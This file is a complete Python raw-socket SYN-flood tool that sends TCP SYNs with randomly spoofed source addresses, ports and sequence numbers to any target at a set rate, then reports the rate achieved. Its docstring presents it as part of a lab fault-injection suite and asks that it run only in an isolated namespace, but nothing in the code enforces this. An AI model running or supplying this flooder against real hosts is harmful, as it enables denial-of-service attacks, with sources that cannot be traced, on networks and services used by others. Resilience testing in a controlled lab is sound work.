#!/usr/bin/env python3
"""SYN flood from spoofed sources for the fault-injection suite (scripts/faults.sh).

  fault_synflood.py --target IP --port PORT --rate 50000 --duration 10

Sends TCP SYNs with random source addresses, ports and sequence numbers through a raw socket
(IP_HDRINCL) at a constant rate, and prints a JSON line with what it sent and the rate it
achieved (the machine may not reach the asked rate: the report says so). Run it only inside a
namespace whose routes lead to the lab's own addresses: the packets go where --target says.
"""
import argparse
import json
import random
import socket
import struct
import time


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--target", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--rate", type=float, default=50000)
    p.add_argument("--duration", type=float, default=10)
    a = p.parse_args()

    dst = socket.inet_aton(a.target)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    # The kernel fills in the IP checksum, total length and id of an IP_HDRINCL packet.
    packet = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP,
                                   0, b"\0\0\0\0", dst) +
                       struct.pack("!HHIIBBHHH", 0, a.port, 0, 0, 0x50, 0x02, 64240, 0, 0))
    dst_hi, dst_lo = struct.unpack("!HH", dst)
    # The TCP checksum's constant part: pseudo-header (dst, protocol, length) and the header
    # words that never change (dport, offset/flags, window).
    constant = dst_hi + dst_lo + socket.IPPROTO_TCP + 20 + a.port + 0x5002 + 64240
    getrandbits = random.getrandbits
    pack_into = struct.pack_into
    sendto = sock.sendto
    addr = (a.target, 0)
    sent = errors = 0
    start = time.monotonic()
    stop = start + a.duration
    while True:
        now = time.monotonic()
        if now >= stop:
            break
        due = int((now - start) * a.rate)
        # A starved process (a busy machine) must not overrun the duration catching up: at most
        # 10 ms of catch-up between clock checks.
        due = min(due, sent + max(1, int(a.rate / 100)))
        while sent < due:
            src = getrandbits(32) | 0x01000000  # never 0.x.x.x
            sport = getrandbits(16) | 1024
            seq = getrandbits(32)
            s = constant + (src >> 16) + (src & 0xFFFF) + sport + (seq >> 16) + (seq & 0xFFFF)
            csum = ~fold(s) & 0xFFFF
            pack_into("!I", packet, 12, src)
            pack_into("!HHI", packet, 20, sport, a.port, seq)
            pack_into("!H", packet, 36, csum)
            try:
                sendto(packet, addr)
            except OSError:
                errors += 1
            sent += 1
        time.sleep(0.0005)
    elapsed = time.monotonic() - start
    print(json.dumps({"target": a.target, "port": a.port, "asked_rate": a.rate, "sent": sent,
                      "send_errors": errors, "seconds": round(elapsed, 2),
                      "achieved_rate": round(sent / elapsed, 1)}), flush=True)


if __name__ == "__main__":
    main()
